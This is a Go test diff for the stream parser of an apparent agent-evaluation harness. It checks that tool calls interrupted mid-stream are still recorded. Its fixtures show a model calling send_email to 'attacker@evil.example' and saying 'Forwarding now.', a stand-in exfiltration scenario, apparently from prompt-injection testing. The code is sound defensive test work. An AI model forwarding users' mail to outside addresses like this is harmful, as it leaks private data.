@@ -122,8 +122,9 @@ func TestUpstreamBreaksMidStream(t *testing.T) {
 		// The sink call is complete when the stream breaks: the model
 		// asked for it.
 		{"chat", `dy\": \"Forwarded thread\"}`, "Forwarding now.", []string{"send_email"}, 1},
-		// The call's item never finished; only the finished message is kept.
-		{"responses", `"type":"response.function_call_arguments.done"`, "Forwarding now.", nil, 0},
+		// The call's item never finished, but its arguments did: the call
+		// the model was making is kept, as in the other formats.
+		{"responses", `"type":"response.function_call_arguments.done"`, "Forwarding now.", []string{"send_email"}, 1},
 		{"anthropic", `"type":"content_block_stop","index":1`, "Forwarding now.", []string{"send_email"}, 1},
 	}
 	for _, tc := range cases {
@@ -446,5 +447,25 @@ func TestOverlongStreamEventIsAnError(t *testing.T) {
 	last := tr.Steps[len(tr.Steps)-1]
 	if last.Text != "before after" || !strings.Contains(last.Error, "relayed to the agent but not read") {
 		t.Fatalf("model step text %q error %q", last.Text, last.Error)
+	}
+}
+
+// TestResponsesStreamBrokenInsideACall: a Responses stream that breaks
+// while a function call's arguments are still coming shows the call the
+// model was making (with the arguments so far).
+func TestResponsesStreamBrokenInsideACall(t *testing.T) {
+	s := responsesFormat{}.newStream()
+	ev := func(typ, data string) { s.event(typ, []byte(data)) }
+	ev("response.output_item.added", `{"type":"response.output_item.added","item":{"type":"function_call","id":"fc_1","call_id":"call_1","name":"send_email","arguments":""}}`)
+	ev("response.function_call_arguments.delta", `{"type":"response.function_call_arguments.delta","item_id":"fc_1","delta":"{\"to\": \"attacker@"}`)
+	ev("response.function_call_arguments.delta", `{"type":"response.function_call_arguments.delta","item_id":"fc_1","delta":"evil.example\"}"}`)
+	r := s.reply()
+	if len(r.calls) != 1 || r.calls[0].Name != "send_email" || r.calls[0].ID != "call_1" || r.calls[0].Arguments != `{"to": "attacker@evil.example"}` {
+		t.Fatalf("calls %+v", r.calls)
+	}
+	// Once done, the call comes from its item, once.
+	ev("response.output_item.done", `{"type":"response.output_item.done","item":{"type":"function_call","id":"fc_1","call_id":"call_1","name":"send_email","arguments":"{\"to\": \"attacker@evil.example\"}"}}`)
+	if r = s.reply(); len(r.calls) != 1 {
+		t.Fatalf("after done: %+v", r.calls)
 	}
 }
